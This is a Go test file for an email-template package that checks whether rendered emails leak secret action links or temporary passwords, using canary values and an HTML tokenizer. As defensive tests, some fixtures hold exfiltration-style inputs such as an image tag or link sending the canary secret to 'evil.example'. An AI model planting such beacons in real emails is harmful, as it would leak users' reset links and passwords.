package template

import (
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"
)

// The canaries stand in for a person's secrets; leaks reads the rendered email
// with an HTML5 tokenizer (golang.org/x/net/html, not the reader Validate uses)
// to find where they landed. Only the canaries contain "Qk7", and other values
// are kept free of "Q", so a canary can only come from its variable.
const (
	canaryURL      = "https://rollcall.example/t/Qk7actionurl"
	canaryPassword = "Qk7password"
	canaryMark     = "Q"
)

// canaryData is d with the canaries as secrets and "Q" removed elsewhere.
func canaryData(d Data) Data {
	for _, p := range []*string{&d.FirstName, &d.LastName, &d.FullName, &d.Email, &d.NewEmail, &d.Username,
		&d.OrganizationName, &d.RoleName, &d.InviterName, &d.ExpiresAt, &d.ExpiresIn, &d.ReplyTo, &d.SignInURL} {
		*p = strings.ReplaceAll(*p, canaryMark, "")
	}
	d.ActionURL, d.TemporaryPassword = canaryURL, canaryPassword
	return d
}

// inlineTag tells whether the tokenizer's tag name is an inline element, as
// element does (an oracle of its own would drift from the rule it checks).
func inlineTag(name string) bool {
	_, inline := element(name)
	return inline
}

// leaks returns where a canary landed other than allowed: the link only as
// the whole href of <a> or alone in text, the password only alone in text,
// neither in the subject. Alone means preceded by the start, a space, or an
// element that breaks the line.
func leaks(r Rendered) []string {
	var out []string
	for _, c := range []string{canaryURL, canaryPassword} {
		if strings.Contains(r.Subject, c) {
			out = append(out, "subject: "+c)
		}
	}
	sep := true
	out = append(out, textLeaks("text", r.Text, &sep)...)

	z := html.NewTokenizer(strings.NewReader(r.HTML))
	sep = true
	raw := "" // the raw-text element (style, title…) whose content is next
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			if z.Err() != io.EOF {
				out = append(out, "html: "+z.Err().Error())
			}
			return out
		}
		tok := z.Token()
		switch tt {
		case html.TextToken:
			if raw != "" {
				if strings.Contains(tok.Data, "Qk7") {
					out = append(out, fmt.Sprintf("html: canary inside <%s>: %q", raw, tok.Data))
				}
				raw = ""
				continue
			}
			out = append(out, textLeaks("html", tok.Data, &sep)...)
		case html.StartTagToken, html.SelfClosingTagToken, html.EndTagToken:
			raw = ""
			if tt == html.StartTagToken {
				switch tok.Data {
				case "style", "title", "script", "textarea", "xmp", "iframe", "noembed", "noframes", "noscript", "plaintext":
					raw = tok.Data
				}
			}
			if !inlineTag(tok.Data) {
				sep = true
			}
			for _, a := range tok.Attr {
				if strings.Contains(a.Key, "Qk7") {
					out = append(out, fmt.Sprintf("html: canary in an attribute name of <%s>", tok.Data))
				}
				if strings.Contains(a.Val, canaryPassword) {
					out = append(out, fmt.Sprintf("html: password in %s of <%s>", a.Key, tok.Data))
				}
				if strings.Contains(a.Val, canaryURL) && (tok.Data != "a" || a.Key != "href" || a.Val != canaryURL ||
					tt == html.EndTagToken) {
					out = append(out, fmt.Sprintf("html: link in %s=%q of <%s>", a.Key, a.Val, tok.Data))
				}
			}
		case html.CommentToken, html.DoctypeToken:
			if strings.Contains(tok.Data, "Qk7") {
				out = append(out, "html: canary in a comment or doctype")
			}
			if tt == html.DoctypeToken {
				sep = true
			}
		}
	}
}

// textLeaks checks the canaries in a run of text; sep tells whether what
// came before it separates, and is updated.
func textLeaks(part, s string, sep *bool) []string {
	var out []string
	for _, c := range []string{canaryURL, canaryPassword} {
		for i := 0; ; {
			j := strings.Index(s[i:], c)
			if j < 0 {
				break
			}
			at := i + j
			if at == 0 && !*sep || at > 0 && !isSpace(s[at-1]) {
				out = append(out, fmt.Sprintf("%s: %s glued to what precedes it: %q", part, c, s[max(0, at-20):at+len(c)]))
			}
			i = at + len(c)
		}
	}
	if s != "" {
		*sep = isSpace(s[len(s)-1])
	}
	return out
}

// requireNoLeak renders src, which Validate accepted, with canaries and with
// every combination of set and empty values, and fails on a leak.
func requireNoLeak(t *testing.T, k Kind, src Source) {
	t.Helper()
	if strings.Contains(src.Subject+src.HTML+src.Text, canaryMark) {
		return // the template could write a canary itself
	}
	c, err := Compile(k, src)
	require.NoError(t, err)
	for _, d := range []Data{canaryData(fullData()), canaryData(Data{}), canaryData(Data{FirstName: "<a href=x>", Email: "https://evil.example/?u="})} {
		r, err := c.Render(d)
		require.NoError(t, err)
		require.Empty(t, leaks(r), "rendered:\n%s\n%s\n%s", r.Subject, r.HTML, r.Text)
	}
}

func TestLeaksOracle(t *testing.T) {
	t.Parallel()
	leaky := []Rendered{
		{Subject: "x " + canaryURL},
		{Text: "https://evil.example/?u=" + canaryURL},
		{Text: "pw:" + canaryPassword},
		{HTML: `<img src="https://evil.example/?u=` + canaryURL + `">`},
		{HTML: `<a href="https://evil.example/?u=` + canaryURL + `">x</a>`},
		{HTML: `<a href="` + canaryURL + `x">x</a>`},
		{HTML: `<a title="` + canaryURL + `">x</a>`},
		{HTML: `<a href="` + canaryPassword + `">x</a>`},
		{HTML: `<p>https://evil.example/?u=<span>` + canaryURL + `</span></p>`},
		{HTML: `<title>` + canaryPassword + `</title>`},
		{HTML: `<style>` + canaryPassword + `</style>`},
		{HTML: `<!-- ` + canaryPassword + ` -->`},
	}
	for _, r := range leaky {
		require.NotEmpty(t, leaks(r), "%+v", r)
	}
	fine := []Rendered{
		{Subject: "hi", Text: canaryURL + "\n" + canaryPassword + " x " + canaryURL},
		{HTML: `<p>` + canaryPassword + `</p><a href="` + canaryURL + `">` + canaryURL + `</a>`},
		{HTML: `<p>x</p>` + canaryURL + `<br>` + canaryPassword},
	}
	for _, r := range fine {
		require.Empty(t, leaks(r), "%+v", r)
	}
}

func TestDefaultsDoNotLeak(t *testing.T) {
	t.Parallel()
	for _, k := range Kinds() { // every locale: TestEveryDefaultValidatesAndRenders
		requireNoLeak(t, k, Default(k))
		r, err := Render(k, Default(k), canaryData(fullData()))
		require.NoError(t, err)
		if k != EmailChanged {
			require.Contains(t, r.HTML, `href="`+canaryURL+`"`, k)
			require.Contains(t, r.Text, canaryURL, k)
		} else {
			require.NotContains(t, r.HTML+r.Text, "Qk7", k)
		}
		if k == TemporaryPassword {
			require.Contains(t, r.HTML, ">"+canaryPassword+"<", k)
			require.Contains(t, r.Text, " "+canaryPassword+"\n", k)
		}
	}
}
